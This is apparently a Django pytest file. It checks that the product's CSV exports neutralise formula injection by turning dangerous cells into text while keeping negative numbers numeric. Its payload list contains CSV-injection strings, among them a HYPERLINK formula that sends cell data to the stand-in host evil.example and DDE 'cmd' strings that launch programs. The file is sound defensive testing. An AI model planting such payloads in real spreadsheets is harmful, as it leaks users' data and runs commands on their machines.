"""Item 3: an idea ``=HYPERLINK(…)`` (also ``@SUM(…)``, ``+cmd|…``, ``-2+3+cmd|…``) came
out raw in the anonymous ideas export. Every CSV the product writes goes through one
writer (ateliers/spreadsheet.py) that makes such cells text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from ateliers.spreadsheet import csv_cell
from projets import services
from tests import factories
from tests.helpers import token_client

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _cells(path: str) -> list[str]:
    response = token_client(None).get(path)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutralised(cells: list[str], payloads: list[str]) -> None:
    for payload in payloads:
        assert payload not in cells, payload  # never raw
        assert "'" + payload in cells, payload  # shown as text, whole


def test_the_anonymous_ideas_export_neutralises_formulas(event):
    guest = factories.make_participant(event, "Mallory")
    for payload in PAYLOADS[:4]:  # the board keeps tab/CR out of ideas (text cleaner)
        factories.post_idea(guest, payload)
    _assert_neutralised(_cells(f"/api/events/{event.pk}/ideas/export.csv"), PAYLOADS[:4])


def test_the_events_export_neutralises_formulas(organizer):
    factories.make_event(
        created_by=organizer, title_fr=PAYLOADS[0], venue=PAYLOADS[2], status="published"
    )
    _assert_neutralised(_cells("/api/events/export.csv"), [PAYLOADS[0], PAYLOADS[2]])


def test_projects_and_indicators_neutralise_text_but_keep_negative_numbers(organizer):
    project = factories.make_project(actor=organizer, title_fr=PAYLOADS[3], region=PAYLOADS[1])
    indicator = services.indicator_create(
        actor=organizer,
        project=project,
        name=PAYLOADS[0],
        unit="@unit",
        baseline=Decimal(-3),
        target=Decimal(10),
    )
    services.indicator_record_value(
        actor=organizer, indicator=indicator, value=Decimal("-2.5"), measured_on=date.today()
    )
    _assert_neutralised(_cells("/api/projects/export.csv"), [PAYLOADS[3], PAYLOADS[1]])
    cells = _cells("/api/projects/indicators/export.csv")
    _assert_neutralised(cells, [PAYLOADS[3], PAYLOADS[0], "@unit"])
    assert "-2.5" in cells and "-3" in cells  # numbers, not text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("Une idée = bonne", "Une idée = bonne"),
        ("", ""),
        (None, ""),
        (-2, "-2"),
        (Decimal("-2.50"), "-2.5"),
        (True, "true"),
        (["=A1", "b"], "'=A1;b"),
    ],
)
def test_one_cell_rule(value, expected):
    assert csv_cell(value) == expected
